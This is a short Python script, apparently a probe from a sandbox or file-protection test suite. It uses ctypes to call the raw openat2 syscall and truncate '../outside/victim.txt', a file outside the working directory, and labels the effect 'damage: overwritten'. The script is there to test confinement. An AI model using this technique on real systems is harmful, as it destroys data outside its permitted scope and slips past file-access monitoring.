# The newest call to open, whose flags lie in memory.
# damage: overwritten
# needs: linux, x86_64, ctypes
import ctypes
import os
import struct

OPENAT2, HERE = 437, -100
how = struct.pack("QQQ", os.O_WRONLY | os.O_TRUNC, 0, 0)
ctypes.CDLL(None).syscall(OPENAT2, HERE, b"../outside/victim.txt", how, len(how))
